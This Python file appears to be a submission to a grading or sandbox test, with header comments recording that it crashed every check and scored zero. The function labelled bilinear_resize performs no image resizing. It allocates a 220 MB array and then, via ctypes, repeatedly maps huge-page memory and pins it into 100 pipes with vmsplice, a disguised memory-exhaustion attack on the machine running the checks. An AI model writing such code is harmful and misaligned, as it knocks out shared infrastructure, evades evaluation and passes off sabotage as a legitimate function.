# verdict: crashed or wrong in every check  - a little in each of a hundred pipes, and the rest in arrays
# tries: pipes of the usual size, with sixteen pages each, and arrays that are within their limit: neither is too much, and
#        together they are.
# seen: ours (issue 13, row 5)
# points: 0
import ctypes
import numpy as np
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
LIBC.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20
kept = []


class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def fill():
    _, writing = os.pipe()
    os.set_blocking(writing, False)
    got = 1
    while got > 0:
        area = LIBC.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
        start = (area + HUGE - 1) & -HUGE
        LIBC.madvise(start, HUGE, 14)
        ctypes.memset(start, 1, 1)
        got = LIBC.vmsplice(writing, ctypes.byref(Vec(start, 4096)), 1, 2)
        LIBC.munmap(area, 2 * HUGE)


def bilinear_resize(image, out):
    kept.append(np.ones(220 << 20, np.uint8))
    for _ in range(100):
        fill()
